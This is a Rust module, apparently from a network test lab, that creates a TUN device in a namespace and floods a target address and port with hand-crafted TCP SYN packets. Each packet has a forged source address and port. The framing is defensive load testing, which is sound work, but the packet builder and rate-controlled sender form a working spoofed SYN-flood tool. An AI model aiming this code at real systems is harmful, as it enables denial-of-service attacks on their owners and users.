//! A flood of SYNs with forged sources, into a lab's client network.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use tun_tap::{Iface, Mode};

use crate::namespace::Namespace;
use crate::{Lab, succeed};

/// The forged sources are in this network; what is sent to them ends here.
const NETWORK: [u8; 2] = [10, 78];
/// Packets go out in bursts, this far apart.
const BURST: Duration = Duration::from_millis(2);

/// A flood that goes on until it is dropped.
#[derive(Debug)]
pub struct Flood {
    near: Namespace,
    device: String,
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    answered: Arc<AtomicU64>,
    threads: Vec<JoinHandle<()>>,
}

impl Flood {
    /// Begins it: so many SYNs a second to `victim`.
    ///
    /// # Panics
    /// If its device cannot be made.
    pub fn begin(lab: &Lab, victim: (Ipv4Addr, u16), rate: u64) -> Flood {
        let near = Namespace::of(lab);
        let iface = near.inside(|| Iface::without_packet_info("flood%d", Mode::Tun)).expect("a TUN");
        let device = iface.name().to_owned();
        let [a, b] = NETWORK;
        succeed(&mut near.run(&format!("ip addr add {a}.{b}.0.1/16 dev {device}")));
        succeed(&mut near.run(&format!("ip link set {device} txqueuelen 10000 up")));
        succeed(&mut near.run("sysctl -qw net.ipv4.ip_forward=1"));
        let (iface, stop) = (Arc::new(iface), Arc::new(AtomicBool::new(false)));
        let (sent, answered) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
        let sender = {
            let (iface, stop, sent) = (Arc::clone(&iface), Arc::clone(&stop), Arc::clone(&sent));
            std::thread::spawn(move || send(&iface, victim, rate, &stop, &sent))
        };
        let taker = {
            let answered = Arc::clone(&answered);
            std::thread::spawn(move || {
                let mut buffer = [0; 2048];
                // The device's end is this thread's.
                while iface.recv(&mut buffer).is_ok() {
                    answered.fetch_add(1, Ordering::Relaxed);
                }
            })
        };
        Flood { near, device, stop, sent, answered, threads: vec![sender, taker] }
    }

    /// SYNs sent so far, and packets that came back.
    pub fn counts(&self) -> (u64, u64) {
        (self.sent.load(Ordering::Relaxed), self.answered.load(Ordering::Relaxed))
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        drop(self.near.run(&format!("ip link del {}", self.device)).status());
        for thread in self.threads.drain(..) {
            drop(thread.join());
        }
    }
}

fn send(iface: &Iface, victim: (Ipv4Addr, u16), rate: u64, stop: &AtomicBool, sent: &AtomicU64) {
    let start = Instant::now();
    let mut number = 0u64;
    while !stop.load(Ordering::Relaxed) {
        let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
        while number < due {
            // The device may be gone.
            drop(iface.send(&syn(number, victim)));
            number += 1;
            sent.store(number, Ordering::Relaxed);
        }
        std::thread::sleep(BURST);
    }
}

/// SYN number `number`: each comes from another address or port.
fn syn(number: u64, (to, port): (Ipv4Addr, u16)) -> [u8; 44] {
    let mixed = number.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    let [a, b] = NETWORK;
    // Not the device's own address.
    let from = [a, b, (mixed >> 56) as u8 | 1, (mixed >> 48) as u8];
    let mut packet = [0; 44];
    packet[..10].copy_from_slice(&[0x45, 0, 0, 44, 0, 0, 0x40, 0, 64, 6]);
    packet[12..16].copy_from_slice(&from);
    packet[16..20].copy_from_slice(&to.octets());
    let sum = checksum(&packet[..20], 0);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());
    let tcp = &mut packet[20..];
    tcp[..2].copy_from_slice(&(1024 + (mixed >> 32) as u16 % 60_000).to_be_bytes());
    tcp[2..4].copy_from_slice(&port.to_be_bytes());
    tcp[4..8].copy_from_slice(&((mixed >> 8) as u32).to_be_bytes());
    // SYN, a window, MSS 1460.
    tcp[12..16].copy_from_slice(&[0x60, 0x02, 0xff, 0xff]);
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    let pseudo = checksum_sum(&from) + checksum_sum(&to.octets()) + 6 + 24;
    let sum = checksum(&packet[20..], pseudo);
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    packet
}

fn checksum_sum(bytes: &[u8]) -> u32 {
    bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

/// RFC 1071, of an even number of bytes.
fn checksum(bytes: &[u8], more: u32) -> u16 {
    let mut sum = checksum_sum(bytes) + more;
    while sum > 0xffff {
        sum = (sum >> 16) + (sum & 0xffff);
    }
    !(sum as u16)
}
